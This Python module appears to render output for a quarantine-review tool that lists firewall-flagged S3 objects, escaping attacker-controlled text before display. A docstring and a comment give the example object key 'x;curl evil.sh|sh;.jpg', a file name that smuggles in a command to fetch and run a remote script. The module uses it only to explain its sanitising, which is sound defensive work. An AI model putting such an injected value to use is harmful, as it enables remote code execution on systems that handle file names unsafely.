"""What people read: the listing table, one envelope in detail, statistics, action outcomes.

Everything printed for people passes through `clean`: record ids, keys, excerpts and titles may
come from an attacker, and control characters (terminal escapes, bidirectional overrides) are shown
escaped, never interpreted. JSON output is escaped by `json.dumps` itself.
"""

from __future__ import annotations

import unicodedata
from collections import Counter
from collections.abc import Iterable
from typing import Any, TextIO

from ..engine.excerpt import MAX_EXCERPT
from .actions import Outcome, iso
from .filters import envelope_time, matches_of
from .query import Item


def clean(value: Any, limit: int | None = None) -> str:
    text = "" if value is None else str(value)
    out = []
    for char in text:
        if unicodedata.category(char)[0] == "C":
            code = ord(char)
            out.append(f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}")
        else:
            out.append(char)
    result = "".join(out)
    if limit is not None and len(result) > limit:
        return result[: max(limit - 1, 0)] + "…"
    return result


def _unique(values: Iterable[Any]) -> list[str]:
    return list(dict.fromkeys(str(v) for v in values if v))


def summary(item: Item) -> dict[str, Any]:
    """One listed envelope for `--json`: what its key says, and what its envelope says if read."""
    entry = item.entry
    data: dict[str, Any] = {
        "key": entry.key,
        "route": entry.route,
        "day": entry.day.isoformat(),
        "source": entry.source,
        "record_id": entry.record_id,
        "last_modified": iso(entry.last_modified),
    }
    if item.stored is None:
        return data
    envelope = item.stored.envelope
    verdict = _verdict(envelope)
    matches = matches_of(envelope)
    when = envelope_time(envelope)
    data.update(
        status=envelope.get("status"),
        time=iso(when) if when else None,
        received_at=envelope.get("received_at"),
        target=envelope.get("target"),
        score=verdict.get("score"),
        action=verdict.get("action"),
        detected=verdict.get("detected"),
        error=verdict.get("error"),
        signatures=_unique(m.get("signature_id") for m in matches),
        families=_unique(m.get("category") for m in matches),
        severities=_unique(m.get("severity") for m in matches),
    )
    return data


def table(items: list[Item], out: TextIO) -> None:
    rows = []
    for item in items:
        data = summary(item)
        when = (data.get("time") or data["day"]).replace("T", " ")
        signatures = ",".join(data.get("signatures") or []) or (
            "(error)" if data.get("error") else "-" if item.stored is None else ""
        )
        rows.append(
            (
                clean(when[:16] + "Z" if when.endswith("Z") else when),
                clean(data["route"]),
                clean(data["source"]),
                clean(data.get("status") or "-"),
                clean(data.get("score") if data.get("score") is not None else "-"),
                clean(signatures, 40),
                clean(data["record_id"]),
            )
        )
    headers = ("TIME", "ROUTE", "SOURCE", "STATUS", "SCORE", "SIGNATURES", "RECORD")
    widths = [max([len(h)] + [len(r[i]) for r in rows]) for i, h in enumerate(headers)]
    for row in [headers, *rows]:
        print("  ".join(cell.ljust(widths[i]) for i, cell in enumerate(row[:-1])) + "  " + row[-1], file=out)


def _verdict(envelope: dict[str, Any]) -> dict[str, Any]:
    verdict = envelope.get("verdict")
    return verdict if isinstance(verdict, dict) else {}


def masked_objects(objects: Any) -> Any:
    """An envelope's `objects` with each source key cut to an excerpt's length: a key is chosen by
    whoever uploaded the object (x;curl evil.sh|sh;.jpg). `--raw` shows them whole."""
    if not isinstance(objects, list):
        return objects
    return [
        {**obj, "key": clean(obj.get("key"), MAX_EXCERPT)} if isinstance(obj, dict) and "key" in obj else obj
        for obj in objects
    ]


def show(bucket: str, key: str, envelope: dict[str, Any], out: TextIO) -> None:
    verdict = _verdict(envelope)
    when = envelope_time(envelope)
    print(f"s3://{clean(bucket)}/{clean(key)}", file=out)
    fields = [
        ("record", envelope.get("record_id")),
        ("route", envelope.get("route")),
        ("source", f"{envelope.get('source')}" + (f"  ({arn})" if (arn := envelope.get("source_arn")) else "")),
        ("target", envelope.get("target")),
        ("event time", iso(when) if when else None),
        ("received", envelope.get("received_at")),
        ("status", envelope.get("status")),
        ("signature set", envelope.get("signature_set")),
        ("firewall", envelope.get("firewall_version")),
    ]
    for label, value in fields:
        print(f"  {label:<14}{clean(value)}", file=out)
    for obj in envelope.get("objects") or []:
        if not isinstance(obj, dict):
            print(f"  {'object':<14}(not an object entry: {clean(obj, 40)})", file=out)
            continue
        version = f" (version {obj.get('version_id')})" if obj.get("version_id") else ""
        copy_key = obj.get("copy_key")
        copy = f"  copy: s3://{bucket}/{copy_key}" if copy_key else f"  ({obj.get('note', 'no copy')})"
        # the object's key is attacker-chosen (x;curl evil.sh|sh;.jpg): an excerpt, as for matches
        name = f"s3://{obj.get('bucket')}/{clean(obj.get('key'), MAX_EXCERPT)}{version}{copy}"
        print(f"  {'object':<14}{clean(name)}", file=out)
    status = "DETECTED" if verdict.get("detected") else "not detected"
    print(
        f"verdict: {clean(str(verdict.get('action', '?')).upper())}, score {clean(verdict.get('score'))}, {status}",
        file=out,
    )
    if verdict.get("error"):
        print(f"  error: {clean(verdict['error'])}", file=out)
    matches = matches_of(envelope)
    print(f"matches: {len(matches)}", file=out)
    for match in matches:
        print(
            f"  {clean(match.get('signature_id'))}  {clean(match.get('severity'))}  {clean(match.get('category'))}  "
            f"{clean(match.get('title'))}",
            file=out,
        )
        print(f"    path        {clean(match.get('path'))}", file=out)
        print(f"    transforms  {clean(', '.join(match.get('transforms') or []) or '(none)')}", file=out)
        print(f"    excerpt     {clean(match.get('excerpt'))}", file=out)
    history = [h for h in envelope.get("history") or [] if isinstance(h, dict)]
    print(f"history: {len(history) or 'none'}", file=out)
    for entry in history:
        extra = {k: v for k, v in entry.items() if k not in ("action", "by", "at", "reason")}
        details = "  " + ", ".join(f"{k}={v}" for k, v in extra.items()) if extra else ""
        print(
            f"  {clean(entry.get('at'))}  {clean(entry.get('action'))} by {clean(entry.get('by'))}: "
            f"{clean(entry.get('reason'))}{clean(details)}",
            file=out,
        )


def statistics(items: Iterable[Item]) -> dict[str, Any]:
    """Counts of envelopes by status, route, family, signature (most first) and day."""
    status: Counter[str] = Counter()
    routes: Counter[str] = Counter()
    families: Counter[str] = Counter()
    signatures: Counter[str] = Counter()
    days: Counter[str] = Counter()
    titles: dict[str, str] = {}
    total = 0
    for item in items:
        total += 1
        routes[item.entry.route] += 1
        days[item.entry.day.isoformat()] += 1
        envelope = item.stored.envelope if item.stored else {}
        status[str(envelope.get("status", "unknown"))] += 1
        matches = matches_of(envelope)
        for family in _unique(m.get("category") for m in matches):
            families[family] += 1
        for match in matches:
            titles.setdefault(str(match.get("signature_id")), str(match.get("title", "")))
        for signature in _unique(m.get("signature_id") for m in matches):
            signatures[signature] += 1
    return {
        "total": total,
        "by_status": dict(_ranked(status)),
        "by_route": dict(_ranked(routes)),
        "by_family": dict(_ranked(families)),
        "by_signature": [{"signature": s, "count": n, "title": titles.get(s, "")} for s, n in _ranked(signatures)],
        "by_day": dict(sorted(days.items(), reverse=True)),
    }


def _ranked(counts: Counter[str]) -> list[tuple[str, int]]:
    return sorted(counts.items(), key=lambda pair: (-pair[1], pair[0]))


def print_statistics(stats: dict[str, Any], out: TextIO) -> None:
    states = ", ".join(f"{clean(k)} {v}" for k, v in stats["by_status"].items())
    print(f"{stats['total']} quarantined record(s)" + (f" ({states})" if states else ""), file=out)
    print("\nby signature (most quarantines first)", file=out)
    for row in stats["by_signature"]:
        print(f"  {clean(row['signature']):<16}{row['count']:>7}  {clean(row['title'], 70)}", file=out)
    for title, name in (("by family", "by_family"), ("by route", "by_route"), ("by day", "by_day")):
        print(f"\n{title}", file=out)
        for key, count in stats[name].items():
            print(f"  {clean(key):<16}{count:>7}", file=out)


def print_outcomes(outcomes: list[Outcome], out: TextIO) -> None:
    for outcome in outcomes:
        print(f"{clean(outcome.result)}: {clean(outcome.record_id or outcome.key)}  {clean(outcome.detail)}", file=out)
